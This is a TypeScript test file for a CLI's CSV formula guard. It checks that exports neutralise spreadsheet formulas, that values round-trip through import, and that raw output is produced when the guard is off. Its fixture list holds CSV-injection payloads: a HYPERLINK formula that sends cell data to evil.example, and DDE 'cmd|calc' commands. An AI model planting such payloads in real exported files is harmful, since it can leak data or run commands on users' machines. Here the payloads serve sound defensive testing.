// CSV injection: `md export` and `cases export` write no cell a spreadsheet would run as a formula
// (unless --no-formula-guard), JSON lines stay as they are, and `md import` of an exported file
// gives back the very values (a fast-check round trip, through the built binary and an emulator).
import { BlizWork } from '@blizwork/sdk';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { guardCell, unguardCell } from '../src/csv-formula-guard.js';
import { useCliEmulator } from './helpers/cli-emulator.js';
import { runCli, tempDir } from './helpers/run-cli.js';

const fixture = useCliEmulator();
const cli = (args: string[]) => runCli(args, { env: fixture.env });
const sdk = () => new BlizWork(fixture.emulator.clientOptions);

/** The attacks of the security review, and their neighbours. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(A1)',
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '\t=1+1',
  '\r=1+1',
  "'=already guarded",
  "'",
  '=',
];
/** Cells that stay as they are. */
const PLAIN = ['-5', '+1.5', '-2e-7', '.5', 'ACME', '', 'a=b', "it's", ' =1'];

/** What a spreadsheet would evaluate: a cell starting like a formula that is not a plain number. */
const evaluable = (cell: string): boolean =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

/** The cells of a CSV file (quoted cells unquoted), header included. */
async function cellsOf(text: string): Promise<string[][]> {
  const { parse } = await import('csv-parse/sync');
  return parse(text, { relax_column_count: true });
}

async function seedTable(table: string, records: Record<string, string>[]): Promise<void> {
  const bw = sdk();
  for (const record of records) await bw.masterData(table).upsert({ id: record.id! }, record);
}

describe('the formula guard', () => {
  it('guards exactly the cells a spreadsheet would evaluate, and unguards them back, for any text', () => {
    for (const cell of FORMULAS) expect(guardCell(cell)).toBe(`'${cell}`);
    for (const cell of PLAIN) expect(guardCell(cell)).toBe(cell);
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...FORMULAS, ...PLAIN),
      fc
        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), fc.string())
        .map(([a, b]) => a + b),
      fc.double().map(String),
    );
    fc.assert(
      fc.property(text, (cell) => {
        const guarded = guardCell(cell);
        expect(evaluable(guarded)).toBe(false);
        expect(unguardCell(guarded)).toBe(cell);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('md export / cases export', () => {
  it('md export --format csv neutralises formulas in values and column names; jsonl and --no-formula-guard write them as they are', async () => {
    const records = FORMULAS.map((formula, i) => ({
      id: `r${i}`,
      '=col': formula,
      n: PLAIN[i % 4]!,
    }));
    await seedTable('Formulas', records);
    const dir = tempDir();
    const csvOut = join(dir, 'f.csv');
    const run = await cli(['md', 'export', 'Formulas', '--format', 'csv', '--out', csvOut]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const cells = (await cellsOf(readFileSync(csvOut, 'utf8'))).flat();
    expect(cells.filter(evaluable)).toEqual([]);
    expect(cells).toContain("'=col");
    expect(cells).toContain(`'${FORMULAS[1]!}`);
    expect(cells).toContain('-5'); // a plain number stays a number

    const jsonl = await cli(['md', 'export', 'Formulas', '--format', 'jsonl']);
    const exported = jsonl.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(exported).toEqual(records);

    const rawOut = join(dir, 'raw.csv');
    const raw = await cli([
      'md',
      'export',
      'Formulas',
      '--format',
      'csv',
      '--out',
      rawOut,
      '--no-formula-guard',
    ]);
    expect(raw.code).toBe(0);
    const rawCells = (await cellsOf(readFileSync(rawOut, 'utf8'))).flat();
    expect(rawCells).toContain('=col');
    expect(rawCells).toContain(FORMULAS[0]);
  });

  it('cases export --format csv neutralises formulas typed into form fields', async () => {
    const bw = sdk();
    const process = bw.process('sales-process');
    const started = await process.getCase(await process.startCase());
    await started.exec('qualification', { customer_name: FORMULAS[1]!, amount: -5 });
    const run = await cli(['cases', 'export', 'sales-process', '--format', 'csv']);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const cells = (await cellsOf(run.stdout)).flat();
    expect(cells.filter(evaluable)).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[1]!}`);
    expect(cells).toContain('-5');
  });

  it('md import of an exported CSV gives back the very values (fast-check data, through the binary)', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(...FORMULAS, ...PLAIN),
      fc
        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", '"'), fc.string())
        .map(([a, b]) => a + b),
    );
    const records = fc
      .sample(fc.array(fc.record({ '=a': cell, "'b": cell }), { minLength: 60, maxLength: 60 }), {
        numRuns: 1,
        seed: 20,
      })[0]!
      .map((record, i) => ({ id: `row-${i}`, ...record }));
    await seedTable('RoundTripSource', records);
    const file = join(tempDir(), 'round-trip.csv');
    expect(
      (await cli(['md', 'export', 'RoundTripSource', '--format', 'csv', '--out', file])).code,
    ).toBe(0);
    const run = await cli(['md', 'import', 'RoundTripCopy', file, '--key', 'id', '--json']);
    expect(run.stderr).toBe('');
    expect(JSON.parse(run.stdout)).toMatchObject({ read: 60, upserted: 60, rejected: 0 });
    const byId = (rows: Record<string, unknown>[]) =>
      [...rows].sort((x, y) => String(x.id).localeCompare(String(y.id)));
    expect(byId(fixture.emulator.readTable('RoundTripCopy')!)).toEqual(byId(records));
  });
});
